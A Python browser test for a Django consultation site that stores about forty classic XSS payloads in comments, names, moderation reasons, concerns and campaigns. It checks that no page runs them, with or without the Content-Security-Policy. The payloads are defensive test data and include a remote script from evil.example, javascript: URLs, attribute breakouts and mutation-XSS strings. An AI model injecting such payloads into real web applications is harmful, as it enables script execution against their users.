"""XSS corpus (issue 13, build 3): classic payloads in every field a person writes, stored through the
services, then every page that shows them opened in Debian's chromium: nothing runs.

The fields: a comment's text and proposed wording, an official reply, a display name and an organisation's
name, report, hiding and "needs no answer" reasons, a concern's title, summary, review reason, decision
rationale and norms (label and address), and the text a campaign shares. The pages: the provision and its
article, the reader, the receipts, "my comments", the edit and withdraw forms, the profile, the moderation
queue, triage, the concern pages, the public record ("heard") and its summary table, the campaigns, the
digest report (its page and its HTML file opened on its own, where no Content-Security-Policy protects it)
and the admin's lists of e-mails and reports.

What counts as running: a dialog (alert, confirm, prompt), or `window.__xss` set, as the payloads do. What
counts as not escaped: a payload missing from the page's text where its field is shown (markup that was
parsed is not text), an inline event handler, an inline script, or a javascript:/data: address in the
page. A script the Content-Security-Policy blocked is a console error: collected and reported as a
finding, since it means markup got through. The site sends a CSP, but the pages must be safe because
they escape, so every page is opened twice: with the CSP, and in a context that ignores it (bypass_csp).
A request to another origin (a payload's remote script) is a finding too. Norm addresses that are not web
addresses are refused by concern_decide; rows holding javascript: and data: addresses (written before that
rule, or by SQL) are stored directly to show that the pages never make links of them. The e-mails are
plain text: the payloads read in them as written, never as HTML entities.
"""
from __future__ import annotations

from dataclasses import dataclass, field

import pytest
from allauth.account.models import EmailAddress
from django.contrib.auth import get_user_model

from comments import services as comment_services
from comments.campaigns import services as campaign_services
from comments.concerns import services as concern_services
from comments.concerns.tables import summary_row_heads
from comments.digests import services as digest_services
from comments.models import Campaign, Comment, Concern, DigestReport, NormReference, OutboxEmail, Receipt
from comments.moderation import services as moderation_services
from consult import services as consult_services
from drafts.models import Provision
from tests.browser.conftest import PASSWORD
from tests.factories import MembershipFactory, UserFactory

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

SLUG = "tarvania-2026"
PARAGRAPH = f"/c/{SLUG}/constitution/v1/p/II/25/1/"

# Each at most 80 characters (a display name's limit), on one line, without runs of spaces: the page's
# text must show it exactly as written.
PAYLOADS = [
    # script elements
    "<script>window.__xss=1</script>",
    '<script>alert("xss")</script>',
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg><script>window.__xss=1</script></svg>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    # event handlers
    '<img src=x onerror="window.__xss=1">',
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    '<details open ontoggle="window.__xss=1">',
    "<input autofocus onfocus=alert(1)>",
    '<video><source onerror="window.__xss=1"></video>',
    # javascript: and friends
    '<a href="javascript:window.__xss=1">click me</a>',
    "javascript:window.__xss=1",
    '<iframe src="javascript:parent.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    '<a href="&#106;avascript:alert(1)">entity</a>',
    # breaking out of an attribute, a textarea, the title, a script block
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus="window.__xss=1" x="',
    "' autofocus onfocus='alert(1)' x='",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>alert(1)</script>",
    "</script><script>window.__xss=1</script>",
    # parser differentials (mutation XSS)
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    # template injection: Django's, Jinja's, JavaScript's, ERB's
    "{{7*7}} {{ request.user.password }}",
    "{% debug %}{% load log %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    # encodings and unicode tricks
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "＜script＞window.__xss=1＜／script＞",  # fullwidth brackets
    '<a href="java\u200bscript:alert(1)">zero width</a>',
    "\u202e<script>alert(1)</script>",  # right-to-left override
]
assert len(PAYLOADS) >= 30 and all(len(payload) <= 80 and payload == payload.strip() for payload in PAYLOADS)
assert len(set(PAYLOADS)) == len(PAYLOADS)

# Read in the forms that hold them: a textarea's value, an input's value attribute.
BREAKOUTS = ["<script>window.__xss=1</script>", "</textarea><script>window.__xss=1</script>", '"><script>window.__xss=1</script>',
             "' autofocus onfocus='alert(1)' x='"]
FORM_LETTER = "Keep Article 25 as it is, we the undersigned ask the commission: "  # + a payload, sent by three people
LEGACY_NORM_URLS = ["javascript:window.__xss=1", " JAVASCRIPT:alert(1)", "data:text/html,<script>alert(1)</script>"]

# A list's next page: the paginator's, and the provision page's "More comments" (not its link to the next provision).
NEXT_PAGE = "nav.pagination a[rel=next], a.button[rel=next]"

# In the page: what a payload that got through would leave, whatever it did or did not manage to run.
DOM_PROBLEMS = r"""() => {
  const problems = [];
  const scheme = /^(javascript|vbscript|data):/i;
  for (const element of document.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`${element.tagName} ${name}="${attribute.value}"`);
      if (['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcdoc'].includes(name)
          && (name === 'srcdoc' || scheme.test(attribute.value.replace(/[\s\u0000-\u001f]/g, '')))) {
        if (!(name === 'src' && /^data:image\//i.test(attribute.value))) problems.push(`${element.tagName} ${name}="${attribute.value}"`);
      }
    }
    const tag = element.tagName.toLowerCase();
    if (tag === 'script' && !element.src && element.type !== 'application/json') problems.push(`inline script: ${element.textContent.slice(0, 80)}`);
    if (tag === 'script' && element.src && new URL(element.src).origin !== location.origin) problems.push(`script from ${element.src}`);
    if (['iframe', 'object', 'embed', 'base', 'frame', 'frameset'].includes(tag)) problems.push(`<${tag}> element`);
    if (tag === 'meta' && (element.httpEquiv || '').toLowerCase() === 'refresh') problems.push('<meta http-equiv=refresh>');
    if (tag === 'img' && element.getAttribute('src') === 'x') problems.push('<img src=x> from a payload');
  }
  return problems;
}"""


@dataclass
class Stored:
    """What the test stored, and where each payload should then be read."""

    comments: list[Comment]
    authors: list
    member: object
    hidden: set[int]  # indexes (in PAYLOADS) of the comments hidden
    no_answer: set[int]  # of those marked as needing no answer
    undecided: set[int]  # of those behind a concern left under review; every other one's concern is decided
    concern_ids: list[int]
    campaign_id: int
    report_id: int
    decision_receipt: str
    legacy_norm_concern_id: int


def _author(index: int, payload: str):
    """A verified participant named by the payload; every other one an organisation named by it too."""
    user = UserFactory(username=f"xss-{index}", email=f"xss-{index}@example.org")
    EmailAddress.objects.create(user=user, email=user.email, verified=True, primary=True)
    organisation = index % 2 == 1
    consult_services.participant_save(
        user=user, display_name=payload, submitter_type="organisation" if organisation else "individual",
        organisation_name=f"Org {payload}" if organisation else "",
    )
    return user


def _store(demo) -> Stored:
    provision = Provision.objects.get(version__document__slug="constitution", version__number=1, path="II/25/1")
    member = UserFactory(username="xss-member", email="xss-member@example.org")
    EmailAddress.objects.create(user=member, email=member.email, verified=True, primary=True)
    consult_services.participant_save(user=member, display_name="Commission Member")
    MembershipFactory(consultation=demo, user=member)

    authors = [_author(index, payload) for index, payload in enumerate(PAYLOADS)]
    comments = [
        comment_services.comment_submit(
            author=author, provision_id=provision.pk, body=payload, stance="propose_wording",
            proposed_wording=f"Wording: {payload}", language="en",
        )
        for author, payload in zip(authors, PAYLOADS, strict=True)
    ]
    comment_services.comment_submit(
        author=member, provision_id=provision.pk, body=f"Answer: {PAYLOADS[0]}", stance="", language="en",
        parent_id=comments[0].pk, official=True,
    )
    for index, comment in enumerate(comments):  # each comment reported by the next author
        moderation_services.comment_report(
            comment_id=comment.pk, reporter=authors[(index + 1) % len(authors)], reason=f"Report: {PAYLOADS[index]}",
        )
    hidden = {index for index in range(len(comments)) if index % 5 == 4}
    no_answer = {index for index in range(len(comments)) if index % 5 == 3}
    undecided = {index for index in range(len(comments)) if index % 5 == 2}
    for index in hidden:
        moderation_services.comment_hide(comment_id=comments[index].pk, moderator=member, reason=f"Hidden: {PAYLOADS[index]}")

    concern_ids = []
    for index, payload in enumerate(PAYLOADS):
        if index in hidden:
            continue
        if index in no_answer:
            concern_services.comment_mark_no_answer(actor=member, comment_id=comments[index].pk, reason=f"No answer: {payload}")
            continue
        concern = concern_services.concern_create(
            actor=member, consultation_id=demo.pk, title=payload, summary=f"Summary: {payload}", comment_ids=[comments[index].pk],
        )
        concern_services.concern_transition(actor=member, concern_id=concern.pk, to_status="under_review", reason=f"Review: {payload}")
        if index not in undecided:
            concern_services.concern_decide(
                actor=member, concern_id=concern.pk, status="rejected", rationale=f"Rationale: {payload}",
                norms=[concern_services.NormInput(f"Norm: {payload}", "https://example.org/norms?q=%3Cscript%3E")],
            )
        concern_ids.append(concern.pk)
    # A norm's javascript: address is refused by the service (tests/comments/test_concerns_services.py); rows
    # written before that rule, or by SQL, must still be rendered inert.
    legacy = concern_ids[0]
    NormReference.objects.bulk_create([NormReference(concern_id=legacy, label=f"Legacy {url.strip()}", url=url) for url in LEGACY_NORM_URLS])

    campaigners = [_author(100 + n, f"Campaigner {n}") for n in range(3)]
    for author in campaigners:
        comment_services.comment_submit(author=author, provision_id=provision.pk, body=FORM_LETTER + PAYLOADS[0], stance="oppose", language="en")
    campaign_services.campaigns_sweep()
    # Some payloads are alike enough to make campaigns of their own: more templates holding them.
    campaign = Campaign.objects.get(template_text__contains=FORM_LETTER.strip())
    assert PAYLOADS[0] in campaign.template_text

    report = digest_services.digest_request(
        consultation=demo, kind=DigestReport.Kind.VERSION, version=provision.version, requested_by=member,
    )
    report = digest_services.digest_build(report_id=report.pk)
    assert report.status == "done", report.error

    decision_receipt = Receipt.objects.filter(kind="decision").order_by("sequence").first().number
    return Stored(
        comments=comments, authors=authors, member=member, hidden=hidden, no_answer=no_answer, undecided=undecided, concern_ids=concern_ids,
        campaign_id=campaign.pk, report_id=report.pk, decision_receipt=decision_receipt, legacy_norm_concern_id=legacy,
    )


@dataclass
class Visit:
    """One page as a browser got it: what ran, what the CSP blocked, what escaped into markup."""

    path: str
    status: int
    dialogs: list[str] = field(default_factory=list)
    xss_flag: object = None
    problems: list[str] = field(default_factory=list)
    csp_errors: list[str] = field(default_factory=list)
    script_errors: list[str] = field(default_factory=list)
    elsewhere: list[str] = field(default_factory=list)  # requests to another origin than the site's
    missing: list[str] = field(default_factory=list)  # payloads not shown as text where their field is
    pages: int = 1  # the list's pages read, following its "next" links


class Browser:
    """Pages opened in contexts that either obey the site's CSP or ignore it, each watched for dialogs,
    console errors and uncaught errors."""

    def __init__(self, new_page, *, origin: str, bypass_csp: bool):
        self.new_page, self.origin, self.bypass_csp = new_page, origin, bypass_csp
        self.visits: list[Visit] = []

    def page(self, user=None, password: str = PASSWORD):
        page = self.new_page(bypass_csp=self.bypass_csp)
        page.on("dialog", self._dialog)
        page.on("console", self._console)
        page.on("pageerror", lambda error: self._current.script_errors.append(str(error)))
        page.on("request", self._request)
        self._current = Visit(path="(sign-in)", status=0)
        if user is not None:
            page.goto("/accounts/login/")
            form = page.locator("main form:has([name=login])")
            form.locator("[name=login]").fill(user.email)
            form.locator("[name=password]").fill(password)
            with page.expect_navigation():
                form.locator("[name=password]").press("Enter")
            assert "/accounts/login/" not in page.url, page.locator("main").inner_text()
        return page

    def _dialog(self, dialog) -> None:
        self._current.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def _console(self, message) -> None:
        """A CSP violation is a finding; "Failed to load resource" is not (a missing file of the admin's, in tests),
        a request to another origin is caught by _request."""
        if message.type == "error" and "Content Security Policy" in message.text:
            self._current.csp_errors.append(message.text)

    def _request(self, request) -> None:
        if not request.url.startswith((self.origin, "data:", "about:", "blob:")):
            self._current.elsewhere.append(request.url)

    def visit(self, page, path: str, *, shows: list[str] = (), values: dict[str, str] | None = None) -> Visit:
        """Open `path` and each next page of its list, let autofocus and load handlers have their chance, then read
        what ran and what the pages show: each of `shows` must be in their text, each of `values` (a selector: its
        text) the value of a form field of the first."""
        self._current = visit = Visit(path=path, status=0)
        response = page.goto(path)
        visit.status = response.status if response else 0
        texts = [self._read(page, visit, values=values)]
        while (following := page.locator(NEXT_PAGE)).count() and visit.pages < 20:
            response = page.goto(following.first.evaluate("link => link.href"))  # absolute: the hrefs are "?page=2"
            visit.pages += 1
            if response is None or response.status != 200:
                visit.status = response.status if response else 0
                break
            texts.append(self._read(page, visit))
        text = "\n".join(texts)
        visit.missing += [payload for payload in shows if payload not in text]
        self.visits.append(visit)
        return visit

    def show_html(self, page, label: str, html: str, *, shows: list[str] = ()) -> Visit:
        """Render a document the site hands out as a file (no header, no CSP: as opened from disk)."""
        self._current = visit = Visit(path=label, status=200)
        page.set_content(html, wait_until="load")
        text = self._read(page, visit)
        visit.missing += [payload for payload in shows if payload not in text]
        self.visits.append(visit)
        return visit

    @staticmethod
    def _read(page, visit: Visit, *, values=None) -> str:
        """What ran and what is in the page once it has loaded; returns its text."""
        page.wait_for_load_state("load")
        page.keyboard.press("Tab")  # focus moves: an onfocus that autofocus did not fire gets its chance
        page.wait_for_timeout(50)
        flag = page.evaluate("() => window.__xss")
        if flag is not None:
            visit.xss_flag = flag
        visit.problems += [f"{page.url}: {problem}" for problem in page.evaluate(DOM_PROBLEMS)]
        for selector, expected in (values or {}).items():
            if page.locator(selector).input_value() != expected:
                visit.missing.append(f"{selector} = {expected}")
        return page.locator("body").inner_text()


def _visit_everything(browser: Browser, stored: Stored, live_server) -> None:
    shown = [index for index in range(len(PAYLOADS)) if index not in stored.hidden]
    concerns = [index for index in shown if index not in stored.no_answer]
    decided = [index for index in concerns if index not in stored.undecided]
    no_answer = sorted(stored.no_answer)
    organisations = [index for index in range(len(PAYLOADS)) if index % 2 == 1]

    public = browser.page()
    browser.visit(public, f"/c/{SLUG}/")
    browser.visit(public, f"/c/{SLUG}/constitution/v1/")
    browser.visit(public, f"/c/{SLUG}/constitution/v1/p/II/25/")
    browser.visit(
        public, PARAGRAPH,
        shows=[PAYLOADS[i] for i in shown] + [f"Wording: {PAYLOADS[i]}" for i in shown]  # texts and proposed wordings
        + PAYLOADS  # every author's display name, hidden comments' too
        + [f"Org {PAYLOADS[i]}" for i in organisations]
        + [f"Hidden by the moderators: Hidden: {PAYLOADS[i]}" for i in stored.hidden]
        + [f"Answer: {PAYLOADS[0]}", FORM_LETTER.strip()],
    )
    for index in (0, min(stored.hidden), len(PAYLOADS) - 1):
        comment = stored.comments[index]
        shows = [f"Hidden: {PAYLOADS[index]}"] if index in stored.hidden else [PAYLOADS[index], f"Wording: {PAYLOADS[index]}"]
        browser.visit(public, f"/receipts/{comment.receipt.number}/", shows=shows)
    browser.visit(public, f"/receipts/{stored.decision_receipt}/")
    browser.visit(
        public, f"/c/{SLUG}/heard/",
        shows=[PAYLOADS[i] for i in concerns] + [f"Rationale: {PAYLOADS[i]}" for i in decided] + [f"Norm: {PAYLOADS[i]}" for i in decided],
    )
    browser.visit(public, f"/c/{SLUG}/heard/constitution/v1/p/II/25/1/", shows=[PAYLOADS[i] for i in decided] + [f"Rationale: {PAYLOADS[i]}" for i in decided])
    # One row per comment, a campaign's (near-identical ones, as some payloads are) once, where its first stands.
    heads = set(summary_row_heads(consultation=stored.comments[0].consultation).values_list("pk", flat=True))
    rows = [index for index in shown if stored.comments[index].pk in heads]
    browser.visit(
        public, f"/c/{SLUG}/heard/summary/",
        shows=[PAYLOADS[i] for i in rows] + [f"Rationale: {PAYLOADS[i]}" for i in rows if i in decided]
        + [f"No answer: {PAYLOADS[i]}" for i in rows if i in no_answer],
    )
    for concern_id, index in zip(stored.concern_ids, concerns, strict=True):
        if concern_id in (stored.concern_ids[0], stored.concern_ids[-1]) or index in stored.undecided:
            shows = [PAYLOADS[index], f"Summary: {PAYLOADS[index]}", f"Review: {PAYLOADS[index]}"]
            if index in decided:
                shows += [f"Rationale: {PAYLOADS[index]}", f"Norm: {PAYLOADS[index]}"]
            browser.visit(public, f"/c/{SLUG}/concerns/{concern_id}/", shows=shows)
    browser.visit(public, f"/c/{SLUG}/campaigns/", shows=[FORM_LETTER.strip()])
    browser.visit(public, f"/c/{SLUG}/campaigns/{stored.campaign_id}/", shows=[FORM_LETTER + PAYLOADS[0]])
    browser.visit(public, f"/c/{SLUG}/reports/")
    browser.visit(public, f"/c/{SLUG}/reports/{stored.report_id}/", shows=[PAYLOADS[i] for i in decided])
    report_html = public.request.get(f"{live_server.url}/c/{SLUG}/reports/{stored.report_id}/html/")
    assert report_html.ok, report_html.status
    browser.show_html(browser.page(), "digest report's HTML file", report_html.text(), shows=[PAYLOADS[i] for i in decided])

    index = 1  # an organisation's author, whose comment is behind a decided concern
    author = browser.page(stored.authors[index])
    browser.visit(author, "/me/comments/", shows=[PAYLOADS[index], f"Rationale: {PAYLOADS[index]}"])
    browser.visit(author, "/account/profile/", values={"[name=display_name]": PAYLOADS[index], "[name=organisation_name]": f"Org {PAYLOADS[index]}"})
    browser.visit(author, PARAGRAPH, shows=[PAYLOADS[i] for i in shown])
    for index in map(PAYLOADS.index, BREAKOUTS):
        author = browser.page(stored.authors[index])
        comment = stored.comments[index]
        browser.visit(author, f"/comments/{comment.pk}/edit/", values={"[name=body]": PAYLOADS[index], "[name=proposed_wording]": f"Wording: {PAYLOADS[index]}"})
        browser.visit(author, f"/comments/{comment.pk}/withdraw/", shows=[PAYLOADS[index]])
        browser.visit(author, "/account/profile/", values={"[name=display_name]": PAYLOADS[index]})
    no_answer_author = browser.page(stored.authors[no_answer[0]])
    browser.visit(no_answer_author, "/me/comments/", shows=[PAYLOADS[no_answer[0]]])

    member = browser.page(stored.member)
    browser.visit(
        member, f"/c/{SLUG}/moderation/",
        shows=[f"Report: {PAYLOADS[i]}" for i in shown] + [PAYLOADS[i] for i in shown],
    )
    browser.visit(member, PARAGRAPH, shows=[PAYLOADS[i] for i in shown])
    browser.visit(member, f"/c/{SLUG}/triage/")
    browser.visit(member, f"/c/{SLUG}/concerns/{stored.concern_ids[0]}/", shows=[f"Rationale: {PAYLOADS[concerns[0]]}"])
    browser.visit(member, f"/c/{SLUG}/concerns/{stored.legacy_norm_concern_id}/merge/")
    browser.visit(member, f"/c/{SLUG}/reports/{stored.report_id}/", shows=[PAYLOADS[i] for i in decided])

    admin = browser.page(get_user_model().objects.get(username="admin"), password="admin")  # the demo's
    browser.visit(admin, "/admin/comments/outboxemail/")
    decision_email = OutboxEmail.objects.filter(subject__contains=PAYLOADS[concerns[0]]).order_by("id").first()
    browser.visit(admin, f"/admin/comments/outboxemail/{decision_email.pk}/change/")
    browser.visit(admin, "/admin/comments/digestreport/")
    browser.visit(admin, f"/admin/comments/digestreport/{stored.report_id}/change/")


def _findings(browser: Browser) -> list[str]:
    lines = []
    for visit in browser.visits:
        where = f"{visit.path} ({'CSP ignored' if browser.bypass_csp else 'with CSP'})"
        if visit.status != 200:
            lines.append(f"{where}: HTTP {visit.status}")
        lines += [f"{where}: a dialog opened: {dialog}" for dialog in visit.dialogs]
        if visit.xss_flag is not None:
            lines.append(f"{where}: window.__xss = {visit.xss_flag!r}")
        lines += [f"{where}: {problem}" for problem in visit.problems]
        lines += [f"{where}: the CSP blocked something (markup got through): {error}" for error in visit.csp_errors]
        lines += [f"{where}: script error: {error}" for error in visit.script_errors]
        lines += [f"{where}: a request to another origin: {url}" for url in visit.elsewhere]
        lines += [f"{where}: not shown as text: {missing!r}" for missing in visit.missing]
    return lines


def _emails_are_plain_text(stored: Stored) -> list[str]:
    """The e-mails are text (send_mail, no HTML part): the payloads in them read as written, never as HTML
    entities, and each decision's e-mail carries its concern's title and rationale."""
    lines = []
    emails = list(OutboxEmail.objects.order_by("id"))
    written_as_entities = "&lt;script&gt;alert(1)&lt;/script&gt;"  # the one payload that holds entities itself
    for email in emails:
        text = f"{email.subject}\n{email.body}".replace(written_as_entities, "")
        lines += [f"e-mail {email.pk} ({email.subject[:60]!r}) holds the HTML entity {entity}"
                  for entity in ("&lt;", "&gt;", "&quot;", "&#x27;", "&#39;", "&amp;") if entity in text]
    for concern in Concern.objects.filter(pk__in=stored.concern_ids).exclude(rationale=""):
        if not any(concern.title in email.subject and concern.rationale in email.body for email in emails):
            lines.append(f"no e-mail gives the decision on {concern.title!r} as written")
    return lines


def test_no_payload_runs_in_any_page_that_shows_it(new_page, demo, live_server):
    """Stored once, every page read twice: obeying the site's CSP, then ignoring it (nothing may run either way)."""
    stored = _store(demo)
    findings = _emails_are_plain_text(stored)
    for bypass_csp in (False, True):
        browser = Browser(new_page, origin=live_server.url, bypass_csp=bypass_csp)
        _visit_everything(browser, stored, live_server)
        print(f"{len(PAYLOADS)} payloads, {len(browser.visits)} pages read ({'CSP ignored' if bypass_csp else 'with CSP'}):")
        print("\n".join(f"  {visit.path}" + (f" ({visit.pages} pages)" if visit.pages > 1 else "") for visit in browser.visits))
        findings += _findings(browser)
    assert not findings, "\n".join(findings)
